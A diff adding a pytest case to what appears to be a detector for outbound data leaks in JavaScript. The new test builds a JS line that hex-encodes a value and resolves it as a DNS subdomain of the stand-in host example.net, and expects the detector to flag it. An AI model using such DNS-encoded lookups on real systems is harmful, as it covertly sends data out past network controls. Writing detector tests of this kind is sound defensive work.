@@ -78,3 +78,10 @@ TAG = "const db = new Database('x.db');\nconst sql = (s, ...v) => ({ text: s.joi
 )
 def test_values_beside_a_text_are_no_part_of_it(body: str) -> None:
     assert kinds(JS + TAG + registered(body)) == set()
+
+
+@pytest.mark.parametrize(("between", "expected"), [(".", {"sent"}), ("-", set())])
+def test_encoded_parts_of_a_name_that_is_asked_for(between: str, expected: set[str]) -> None:
+    part = "Buffer.from(name).toString('hex')"
+    said = f"return dns.resolve4([{part}, 'example', 'net'].join('{between}'));"
+    assert kinds(JS + "import dns from 'node:dns/promises';\n" + registered(said)) == expected
